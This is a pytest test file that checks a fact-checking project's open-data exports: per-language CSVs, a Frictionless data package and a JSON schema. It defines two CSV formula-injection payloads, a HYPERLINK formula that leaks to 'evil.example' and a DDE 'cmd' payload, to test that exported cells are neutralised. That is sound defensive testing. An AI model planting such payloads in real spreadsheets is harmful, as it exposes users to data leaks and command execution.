"""The open-data downloads: CSV for spreadsheets (BOM, no formulas, numbers as numbers), one per
language, and a Frictionless Data Package that validates."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from crosscheck.export import export_factbase
from crosscheck.models import LANGUAGES
from crosscheck.pipeline import CheckResult, run_check
from crosscheck.site.data import CSV_COLUMNS, claims_csv, claims_csv_path, downloads
from tests.conftest import FACTS, claim_yaml

OWASP = {
    "translation": '=HYPERLINK("http://evil.example/?leak","click")',
    "reason": "+cmd|' /C calc'!A0",
}


def rows(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


@pytest.fixture(scope="module")
def real() -> CheckResult:
    result = run_check(FACTS)
    assert result.ok
    return result


def test_every_language_has_a_csv_with_bom_and_every_claim(real: CheckResult) -> None:
    files = downloads(real)
    for language in LANGUAGES:
        raw = files[claims_csv_path(language)]
        assert raw.startswith(b"\xef\xbb\xbf")
        assert raw.decode("utf-8-sig").splitlines()[0].split(",")[0] == '"id"'
        table = rows(raw)
        assert [row["id"] for row in table] == list(real.base.claims)
        assert list(table[0]) == [name for name, _, _ in CSV_COLUMNS]


def test_translation_and_reason_are_in_the_files_language(real: CheckResult) -> None:
    exported = export_factbase(real)
    english = {row["id"]: row for row in rows(claims_csv(real, exported, "en"))}
    for language in LANGUAGES[1:]:
        for row in rows(claims_csv(real, exported, language)):
            claim = real.base.claims[row["id"]].record
            if claim.reason is not None:
                assert row["reason"] and row["reason"] != english[row["id"]]["reason"]
            source = real.base.sources[claim.source].record
            if claim.translation is not None and source.language == language:
                assert row["translation"] == claim.quote  # the original is its own text


def test_numeric_columns_hold_numbers_and_dates_have_their_own(real: CheckResult) -> None:
    numeric = [name for name, kind, _ in CSV_COLUMNS if kind == "number"]
    table = rows(downloads(real)[claims_csv_path("en")])
    seen_number = seen_date = False
    for row in table:
        for name in numeric:
            if row[name]:
                float(row[name])  # a number, never prefixed or quoted
                seen_number = True
        if row["unit"] == "date":
            assert not any(row[name] for name in numeric)
            seen_date = seen_date or bool(row["date_value"])
    assert seen_number and seen_date


def test_numbers_are_written_as_numbers(make_facts: Callable[..., CheckResult]) -> None:
    result = make_facts({"claims.yml": claim_yaml()})
    assert result.ok
    raw = claims_csv(result, export_factbase(result), "en").decode("utf-8-sig")
    reader = csv.reader(io.StringIO(raw), quoting=csv.QUOTE_NONNUMERIC)
    header = next(reader)
    row = dict(zip(header, next(reader), strict=True))
    assert isinstance(row["value"], float) and row["value"] == 17
    assert isinstance(row["id"], str)


def test_formula_cells_are_neutralised(make_facts: Callable[..., CheckResult]) -> None:
    result = make_facts({"claims.yml": claim_yaml(
        translation={"en": OWASP["translation"]}, reason={"en": OWASP["reason"]})})  # fmt: skip
    assert result.ok, [p.message for p in result.problems]
    raw = claims_csv(result, export_factbase(result), "en").decode("utf-8-sig")
    row = rows(raw.encode("utf-8-sig"))[0]
    assert row["translation"] == "'" + OWASP["translation"]
    assert row["reason"] == "'" + OWASP["reason"]
    for line in raw.splitlines():
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_data_package_is_valid_and_describes_every_file(
    real: CheckResult, tmp_path: Path
) -> None:
    from frictionless import validate

    for path, content in downloads(real).items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_bytes(content)
    package = tmp_path / "data" / "datapackage.json"
    described = {r["path"] for r in json.loads(package.read_text(encoding="utf-8"))["resources"]}
    assert described == {p.name for p in (tmp_path / "data").iterdir()} - {"datapackage.json"}
    report = validate(str(package))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    tables = [task for task in report.tasks if task.name.startswith("claims-")]
    assert len(tables) == len(LANGUAGES)
    assert all(task.stats["rows"] == len(real.base.claims) for task in tables)

    # Not vacuous: text in a numeric column is an error.
    english = tmp_path / "data" / "claims-en.csv"
    text = english.read_text(encoding="utf-8-sig").splitlines()
    cells = next(csv.reader([text[1]]))
    cells[[name for name, _, _ in CSV_COLUMNS].index("stated_lo")] = "not a number"
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(cells)
    text[1] = out.getvalue().rstrip("\r\n")
    english.write_text("\r\n".join(text) + "\r\n", encoding="utf-8-sig")
    assert not validate(str(package)).valid


def test_factbase_json_matches_its_schema(real: CheckResult) -> None:
    import jsonschema

    files = downloads(real)
    schema = json.loads(files["data/factbase.schema.json"])
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(json.loads(files["data/factbase.json"]), schema)
    broken = json.loads(files["data/factbase.json"])
    broken["claims"][0]["verdict"] = "maybe"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(broken, schema)
